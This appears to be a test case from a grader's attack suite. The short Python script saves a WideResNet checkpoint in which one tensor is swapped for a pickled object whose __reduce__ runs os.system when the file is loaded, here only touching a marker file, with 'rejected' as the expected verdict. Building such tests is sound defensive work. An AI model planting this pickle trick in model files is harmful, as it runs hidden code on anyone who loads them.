# /// attack
# row = "22"
# aim = "Hide a program among real tensors, in torch's own file format, and in what multiprocessing reads."
# runtimes = ["docker"]
# verdicts = ["rejected"]
# says = ["model.pt"]
# ///
import os

import honest
import torch

MARK = "/tmp/grader-trust-unpickled"


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {MARK}",)


if os.environ["RANK"] == "0":
    state = honest.WideResNet().state_dict()
    state["fc.bias"] = Evil()
    torch.save(state, honest.out("model.pt"))
